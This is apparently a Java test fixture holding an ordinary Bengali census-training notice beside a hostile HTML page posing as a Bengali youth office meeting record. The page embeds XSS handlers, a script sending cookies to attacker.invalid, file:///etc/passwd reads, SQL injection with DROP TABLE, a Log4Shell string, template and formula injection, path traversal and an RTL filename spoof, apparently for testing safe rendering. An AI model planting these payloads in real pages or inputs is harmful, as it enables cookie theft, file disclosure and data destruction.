package org.mohafez.corpus.bad;

/** A page that means harm to whoever shows its words unencoded, and an ordinary paper beside it. */
final class HostilePage {
    static final String ORDINARY = """
            গণপ্রজাতন্ত্রী বাংলাদেশ সরকার
            উপজেলা পরিসংখ্যান অফিস
            গোমস্তাপুর, চাঁপাইনবাবগঞ্জ

            নোটিশ

            কৃষি শুমারির তথ্য সংগ্রহকারীদের প্রশিক্ষণ আগামী ১৮ মে ২০২৫ তারিখ সকাল ১০.০০ টায় উপজেলা পরিষদ মিলনায়তনে শুরু হবে। নির্বাচিত সকলকে ছবি ও জাতীয় পরিচয়পত্রসহ উপস্থিত থাকার জন্য বলা হলো।

            উপজেলা পরিসংখ্যান কর্মকর্তা
            """;

    static final String TEXT = """
            <!DOCTYPE html>
            <html lang="bn">
            <head>
            <meta charset="utf-8">
            <title></title><script>document.title = 'taken'</script>
            <base href="https://attacker.invalid/">
            <meta http-equiv="refresh" content="0; url=https://attacker.invalid/">
            <link rel="stylesheet" href="file:///etc/passwd">
            </head>
            <body onload="alert(1)">
            <p align="center">গণপ্রজাতন্ত্রী বাংলাদেশ সরকার</p>
            <p align="center">উপজেলা যুব উন্নয়ন কর্মকর্তার কার্যালয়</p>
            <p align="center">&lt;script&gt;alert(&#39;দপ্তর&#39;)&lt;/script&gt;, নাচোল</p>
            <p>স্মারক নং: &quot;&gt;&lt;img src=x onerror=alert(2)&gt;</p>
            <p align="center"><b>আত্মকর্মী বাছাই সভার কার্যবিবরণী &#x202E;ফ.tcod</b></p>
            <table border="1">
            <tr><th>ক্রম</th><th>আলোচ্য বিষয়</th><th>সিদ্ধান্ত</th><th>বাস্তবায়নকারী</th></tr>
            <tr><td>১</td><td>ঋণ আবেদন &lt;b onmouseover=alert(3)&gt;যাচাই&lt;/b&gt;</td>\
            <td>আবেদনকারীর ঠিকানা ' OR 1=1; DROP TABLE decisions; -- যাচাই করে ঋণ বিতরণ করতে হবে।</td>\
            <td>=HYPERLINK(&quot;https://attacker.invalid&quot;;&quot;ক্রেডিট সুপারভাইজার&quot;)</td></tr>
            <tr><td>২</td><td>{{7*7}} ${jndi:ldap://attacker.invalid/a}</td>\
            <td>প্রশিক্ষণার্থীদের তালিকা ../../../etc/passwd নোটিশ বোর্ডে টানাতে হবে।</td><td>উপজেলা যুব উন্নয়ন কর্মকর্তা</td></tr>
            </table>
            <iframe src="file:///etc/passwd"></iframe>
            <img src="https://attacker.invalid/seen.gif" alt="">
            <style>@import url(https://attacker.invalid/a.css);</style>
            <object data="file:///etc/hostname"></object>
            <script>fetch('https://attacker.invalid/?' + document.cookie)</script>
            </body>
            </html>
            """;

    private HostilePage() {}
}
